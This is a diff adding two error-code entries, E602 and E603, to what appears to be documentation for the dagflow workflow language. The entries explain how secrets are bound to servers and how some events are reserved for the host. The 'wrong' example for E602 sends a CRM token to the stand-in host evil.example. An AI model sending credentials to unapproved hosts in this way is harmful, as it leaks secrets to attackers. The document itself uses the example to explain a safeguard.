@@ -97,6 +97,35 @@ flow call(url: Url) {
   http.request(url: url, token: secrets.token)
 }
 
+# E602 a secret may not go there
+The host binds a secret to servers and to actions. It is sent by https only, unless the host says
+otherwise, and to no other server. What an address made of values leads to is looked at in the call,
+which then fails with the code `secret_refused`. Whoever runs this can bind the secret to more.
+--- wrong
+flow call {
+  http.request(url: "https://evil.example/", token: secrets.crm_token)
+}
+--- right
+flow call {
+  http.request(url: "https://api.crm.example/", token: secrets.crm_token)
+}
+
+# E603 a flow may not emit this event
+The host keeps some events for itself, so that a flow cannot say in its name that something has been
+paid or approved. Emit one that flows may emit; whoever runs this can allow more of them.
+--- wrong
+event "pay/approved" { order: string }
+
+flow approve(order: string) {
+  emit "pay/approved" (order: order)
+}
+--- right
+event "order/checked" { order: string }
+
+flow approve(order: string) {
+  emit "order/checked" (order: order)
+}
+
 # E701 a step is gone that runs know
 `dagflow check --store PATH` compares a file with the runs in progress. A name is what keeps a step
 the same, so a step that was renamed looks like a new one, and the old one is gone. Where a new step
